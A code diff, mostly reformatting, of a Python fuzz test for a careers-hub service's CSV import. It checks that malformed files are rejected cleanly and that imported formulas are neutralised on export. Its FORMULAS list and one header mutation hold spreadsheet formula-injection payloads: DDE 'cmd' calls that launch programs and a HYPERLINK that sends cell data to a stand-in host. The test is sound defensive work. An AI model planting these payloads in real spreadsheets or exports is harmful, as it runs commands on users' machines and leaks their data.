@@ -6,6 +6,7 @@ Formulas that are imported come out of every CSV export neutralised.
 
 Repeatable: derandomized, no example database. CAREERHUB_FUZZ_EXAMPLES sets the examples per kind and
 mutation (default 12)."""
+
 from __future__ import annotations
 
 import csv
@@ -37,25 +38,41 @@ from service.export import csv_text, export_bundle, formula_safe
 from service.hub import HubService
 from tests.robustness.support import LATE_SUMMARY, csv_bytes, report
 
-EXAMPLES = {"sqlite": int(os.environ.get("CAREERHUB_FUZZ_EXAMPLES", "12")),  # per kind and mutation
-            "postgres": int(os.environ.get("CAREERHUB_FUZZ_EXAMPLES_POSTGRES", "3"))}
+EXAMPLES = {
+    "sqlite": int(os.environ.get("CAREERHUB_FUZZ_EXAMPLES", "12")),  # per kind and mutation
+    "postgres": int(os.environ.get("CAREERHUB_FUZZ_EXAMPLES_POSTGRES", "3")),
+}
 
 
 def fuzz(backend: str = "sqlite") -> settings:
-    return settings(max_examples=EXAMPLES[backend], derandomize=True, database=None, deadline=None,
-                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
-                                           HealthCheck.function_scoped_fixture])
+    return settings(
+        max_examples=EXAMPLES[backend],
+        derandomize=True,
+        database=None,
+        deadline=None,
+        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.function_scoped_fixture],
+    )
 
 
 FUZZ = fuzz()
 HUB, URNS, ADVISER = "dorset", ("100001", "100002"), "EA-1"
 ENCOUNTERS, PUPILS = ("E-1", "E-2", "E-3"), ("PUPIL-1", "PUPIL-2", "PUPIL-3")  # what a participation names
-FORMULAS = ("=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A2)",
-            "=1+1", "\t=1+1", "\r=1+1", "=2*5+cmd|' /C notepad'!'A1'")
+FORMULAS = (
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://x.example/?"&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "=1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "=2*5+cmd|' /C notepad'!'A1'",
+)
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
 
 # --- the store -----------------------------------------------------------------------------------
+
 
 def given_a_store(database_url: str) -> HubService:
     """A store that knows hub dorset, institutions 100001 and 100002, adviser EA-1, and (for participations)
@@ -65,13 +82,22 @@ def given_a_store(database_url: str) -> HubService:
     service.record_default_definitions()  # recorded on first use: before the examples count their events
     given = [
         ("hubs", ["hub_id", "name", "area", "started_on"], [[HUB, "Dorset Careers Hub", "Dorset", "2019-09-01"]]),
-        ("institutions", ["urn", "name", "kind", "area", "hub_id", "hub_joined_on", "ean_joined_on"],
-         [[u, f"School {u}", "school", "Dorset", HUB, "2019-09-01", "2019-09-01"] for u in URNS]),
+        (
+            "institutions",
+            ["urn", "name", "kind", "area", "hub_id", "hub_joined_on", "ean_joined_on"],
+            [[u, f"School {u}", "school", "Dorset", HUB, "2019-09-01", "2019-09-01"] for u in URNS],
+        ),
         ("advisers", ["adviser_ref", "name", "capacity"], [[ADVISER, "Ada Byron", "3"]]),
-        ("encounters", ["encounter_ref", "urn", "occurred_on", "kind"],
-         [[e, URNS[0], "2020-01-01", "employer_encounter"] for e in ENCOUNTERS]),
-        ("learners", ["pupil_id", "urn", "year_group", "academic_year"],
-         [[p, URNS[0], "10", f"{y}/{(y + 1) % 100:02d}"] for p in PUPILS for y in range(2014, 2031)]),
+        (
+            "encounters",
+            ["encounter_ref", "urn", "occurred_on", "kind"],
+            [[e, URNS[0], "2020-01-01", "employer_encounter"] for e in ENCOUNTERS],
+        ),
+        (
+            "learners",
+            ["pupil_id", "urn", "year_group", "academic_year"],
+            [[p, URNS[0], "10", f"{y}/{(y + 1) % 100:02d}"] for p in PUPILS for y in range(2014, 2031)],
+        ),
     ]
     for kind, header, rows in given:
         service.import_file(kind, Path(f"given-{kind}.csv"), "setup", data=csv_bytes(header, rows))
@@ -103,8 +129,9 @@ def postgres_hub(postgres_server: Any) -> Iterator[HubService]:
 
 # --- valid files ---------------------------------------------------------------------------------
 
-TEXT = st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Zl", "Zp")), min_size=1,
-               max_size=12).filter(lambda s: s.strip() != "")
+TEXT = st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Zl", "Zp")), min_size=1, max_size=12).filter(
+    lambda s: s.strip() != ""
+)
 LIST_ITEM = TEXT.filter(lambda s: ";" not in s and s.strip() != "")
 DAYS = st.dates(date(2015, 1, 1), date(2030, 12, 31))
 REFERENCED = {"hub_id": st.just(HUB), "adviser_ref": st.just(ADVISER), "urn": st.sampled_from(URNS)}
@@ -164,8 +191,11 @@ def valid_file(draw: st.DrawFn, kind: str) -> tuple[list[str], list[list[str]]]:
     """A header (required columns, some optional ones, in any order) and 1-6 rows."""
     schema = KINDS[kind].input_kind  # as the file has it: a learner's pupil_id, not the key made from it
     optional = [c.name for c in schema.columns if not c.required]
-    header = [c.name for c in schema.columns if c.required] + draw(st.lists(st.sampled_from(optional), unique=True)) \
-        if optional else [c.name for c in schema.columns]
+    header = (
+        [c.name for c in schema.columns if c.required] + draw(st.lists(st.sampled_from(optional), unique=True))
+        if optional
+        else [c.name for c in schema.columns]
+    )
     header = draw(st.permutations(header))
     # participations name known pupils and encounters: one row per pair, or the file contradicts itself
     unique = (lambda r: (r["pupil_id"], r["encounter_ref"])) if kind == "participations" else None
@@ -174,6 +204,7 @@ def valid_file(draw: st.DrawFn, kind: str) -> tuple[list[str], list[list[str]]]:
 
 
 # --- mutations -----------------------------------------------------------------------------------
+
 
 def encoded(header: list[str], rows: list[list[str]], newline: str = "\n") -> str:
     out = io.StringIO()
@@ -197,10 +228,38 @@ def splice(draw: st.DrawFn, data: bytes, piece: bytes) -> bytes:
 
 # Numbers at the edges, among them integers past a 64-bit column and infinities (the fuzzing found
 # that both used to be recorded: see test_fuzz_findings.py).
-EDGE_NUMBERS = ("nan", "NaN", "inf", "-inf", "Infinity", "1e999", "-1e999", "1e-999", "-0", "0.0", "1e3", "0x10",
-                "1_000", "\u0661\u0662", "\uff11\uff10\uff10", "\u22125", "+5", "5.", ".5", str(2**63 - 1),
-                str(2**63), "-" + str(2**63), "9" * 25, "9" * 4301, "12abc", "1,5", "100.0000000000000001", "101",
-                "-1", "15")
+EDGE_NUMBERS = (
+    "nan",
+    "NaN",
+    "inf",
+    "-inf",
+    "Infinity",
+    "1e999",
+    "-1e999",
+    "1e-999",
+    "-0",
+    "0.0",
+    "1e3",
+    "0x10",
+    "1_000",
+    "\u0661\u0662",
+    "\uff11\uff10\uff10",
+    "\u22125",
+    "+5",
+    "5.",
+    ".5",
+    str(2**63 - 1),
+    str(2**63),
+    "-" + str(2**63),
+    "9" * 25,
+    "9" * 4301,
+    "12abc",
+    "1,5",
+    "100.0000000000000001",
+    "101",
+    "-1",
+    "15",
+)
 
 
 MUTATIONS: dict[str, Callable[[st.DrawFn, list[str], list[list[str]]], bytes]] = {
@@ -208,25 +267,39 @@ MUTATIONS: dict[str, Callable[[st.DrawFn, list[str], list[list[str]]], bytes]] =
     "none": lambda draw, h, r: encoded(h, r).encode(),
     "random bytes": lambda draw, h, r: splice(draw, encoded(h, r).encode(), draw(st.binary(min_size=1, max_size=8))),
     "binary file": lambda draw, h, r: draw(st.binary(min_size=0, max_size=300)),
-    "huge cell": lambda draw, h, r: replace_cell(draw, h, r, draw(st.sampled_from("x9;\"é,")) * draw(
-        st.sampled_from((5_000, 131_072, 140_000, 1_000_000)))),
-    "deeply quoted cell": lambda draw, h, r: splice(draw, encoded(h, r).encode(), (
-        '"' * draw(st.integers(1, 200)) + draw(TEXT) + '"' * draw(st.integers(0, 200))).encode()),
+    "huge cell": lambda draw, h, r: replace_cell(
+        draw, h, r, draw(st.sampled_from('x9;"é,')) * draw(st.sampled_from((5_000, 131_072, 140_000, 1_000_000)))
+    ),
+    "deeply quoted cell": lambda draw, h, r: splice(
+        draw, encoded(h, r).encode(), ('"' * draw(st.integers(1, 200)) + draw(TEXT) + '"' * draw(st.integers(0, 200))).encode()
+    ),
     "formula cell": lambda draw, h, r: replace_cell(draw, h, r, draw(st.sampled_from(FORMULAS))),
     "NUL byte": lambda draw, h, r: splice(draw, encoded(h, r).encode(), b"\x00" * draw(st.integers(1, 3))),
-    "wrong cell count": lambda draw, h, r: encoded(h, [row + [""] * draw(st.integers(1, 2)) if i == 0 else row
-                                                        for i, row in enumerate(r)]).encode()
-    if draw(st.booleans()) else encoded(h, [row[:-1] if i == len(r) - 1 else row for i, row in enumerate(r)]).encode(),
-    "latin-1": lambda draw, h, r: replace_cell(draw, h, r, draw(st.sampled_from(("Bournemouth é", "Café", "Poole £5"))))
-    .decode().encode("latin-1", errors="replace"),
-    "line endings": lambda draw, h, r: "".join(line + draw(st.sampled_from(("\r\n", "\n", "\r"))) for line in
-                                               encoded(h, r).splitlines()).encode(),
-    "byte-order mark": lambda draw, h, r: draw(st.sampled_from((b"\xef\xbb\xbf", b"\xef\xbb\xbf\xef\xbb\xbf",
-                                                                b"\xff\xfe", b"\xfe\xff"))) + encoded(h, r).encode(),
+    "wrong cell count": lambda draw, h, r: (
+        encoded(h, [row + [""] * draw(st.integers(1, 2)) if i == 0 else row for i, row in enumerate(r)]).encode()
+        if draw(st.booleans())
+        else encoded(h, [row[:-1] if i == len(r) - 1 else row for i, row in enumerate(r)]).encode()
+    ),
+    "latin-1": lambda draw, h, r: (
+        replace_cell(draw, h, r, draw(st.sampled_from(("Bournemouth é", "Café", "Poole £5"))))
+        .decode()
+        .encode("latin-1", errors="replace")
+    ),
+    "line endings": lambda draw, h, r: "".join(
+        line + draw(st.sampled_from(("\r\n", "\n", "\r"))) for line in encoded(h, r).splitlines()
+    ).encode(),
+    "byte-order mark": lambda draw, h, r: (
+        draw(st.sampled_from((b"\xef\xbb\xbf", b"\xef\xbb\xbf\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff"))) + encoded(h, r).encode()
+    ),
     "utf-16": lambda draw, h, r: encoded(h, r).encode(draw(st.sampled_from(("utf-16", "utf-16-le")))),
-    "broken header": lambda draw, h, r: encoded(draw(st.sampled_from((
-        h[1:], h + [h[0]], [f" {n}" for n in h], h + [""], [n.upper() for n in h], h + ["=cmd|' /C calc'!A0"]))),
-        r).encode(),
+    "broken header": lambda draw, h, r: encoded(
+        draw(
+            st.sampled_from(
+                (h[1:], h + [h[0]], [f" {n}" for n in h], h + [""], [n.upper() for n in h], h + ["=cmd|' /C calc'!A0"])
+            )
+        ),
+        r,
+    ).encode(),
 }
 
 
@@ -245,10 +318,12 @@ def fuzz_summary() -> list[str]:
     lines = []
     for kind, tally in TALLY.items():
         files = tally["recorded"] + tally["unchanged"] + tally["rejected"]
-        lines.append(f"fuzz {kind}: {files} files ({len(MUTATIONS)} mutations), {tally['recorded']} recorded, "
-                     f"{tally['unchanged']} unchanged (already known), {tally['rejected']} rejected cleanly, other "
-                     f"exceptions 0, rejections that changed the store 0; unmutated files imported "
-                     f"{tally['none: recorded'] + tally['none: unchanged']}/{sum(tally[f'none: {o}'] for o in OUTCOMES)}")
+        lines.append(
+            f"fuzz {kind}: {files} files ({len(MUTATIONS)} mutations), {tally['recorded']} recorded, "
+            f"{tally['unchanged']} unchanged (already known), {tally['rejected']} rejected cleanly, other "
+            f"exceptions 0, rejections that changed the store 0; unmutated files imported "
+            f"{tally['none: recorded'] + tally['none: unchanged']}/{sum(tally[f'none: {o}'] for o in OUTCOMES)}"
+        )
     return lines
 
 
@@ -291,13 +366,13 @@ def accepts_a_nul(kind: str, name: str, data: bytes) -> bool:
         return False
 
 
-CASES = [(b, k, m) for b in ("sqlite", "postgres") for k in KINDS for m in MUTATIONS
-         if not (b == "postgres" and m == "NUL byte")]
+CASES = [(b, k, m) for b in ("sqlite", "postgres") for k in KINDS for m in MUTATIONS if not (b == "postgres" and m == "NUL byte")]
 
 
 @pytest.mark.parametrize("backend, kind, mutation", CASES, ids=[f"{b}-{k}-{m.replace(' ', '_')}" for b, k, m in CASES])
 def test_given_a_mutated_file_of_any_kind_then_it_is_imported_whole_or_rejected_with_the_store_unchanged(
-        request, backend, kind, mutation):
+    request, backend, kind, mutation
+):
     service: HubService = request.getfixturevalue("hub" if backend == "sqlite" else "postgres_hub")
     tally = TALLY.setdefault(f"{kind} [{backend}]", Counter())
     mine: Counter[str] = Counter()
@@ -322,14 +397,16 @@ def test_given_a_mutated_file_of_any_kind_then_it_is_imported_whole_or_rejected_
 
 # --- formulas, once imported, are neutralised on the way out -------------------------------------
 
+
 @st.composite
 def institutions_with_formulas(draw: st.DrawFn) -> list[list[str]]:
     """Institutions whose URN, name and cluster may be formulas (the URN made unique within the file)."""
     names = draw(st.lists(st.one_of(st.sampled_from(FORMULAS), TEXT), min_size=1, max_size=5))
-    urns = [draw(st.sampled_from(FORMULAS + ("@1", "-7", "+44 1202", "100"))).strip() + f"-{i}"
-            for i in range(len(names))]
-    return [[urn, name, "school", "Dorset", draw(st.sampled_from(FORMULAS)), HUB, "2019-09-01", "2019-09-01"]
-            for urn, name in zip(urns, names, strict=True)]
+    urns = [draw(st.sampled_from(FORMULAS + ("@1", "-7", "+44 1202", "100"))).strip() + f"-{i}" for i in range(len(names))]
+    return [
+        [urn, name, "school", "Dorset", draw(st.sampled_from(FORMULAS)), HUB, "2019-09-01", "2019-09-01"]
+        for urn, name in zip(urns, names, strict=True)
+    ]
 
 
 def shown(cell_text: str) -> bool:
@@ -375,7 +452,9 @@ def test_given_imported_formulas_when_exported_as_csv_then_no_cell_can_run(hub, 
 
     property_holds()
 
-    report(f"fuzz formulas: {sum(formulas.values())} formula cells imported ({len(formulas)} distinct), each "
-           "exported by csv_text/formula_safe (the web's downloads too) and the audit bundle (log.csv, institutions.csv) "
-           "as text, never as a formula")
+    report(
+        f"fuzz formulas: {sum(formulas.values())} formula cells imported ({len(formulas)} distinct), each "
+        "exported by csv_text/formula_safe (the web's downloads too) and the audit bundle (log.csv, institutions.csv) "
+        "as text, never as a formula"
+    )
     assert formulas
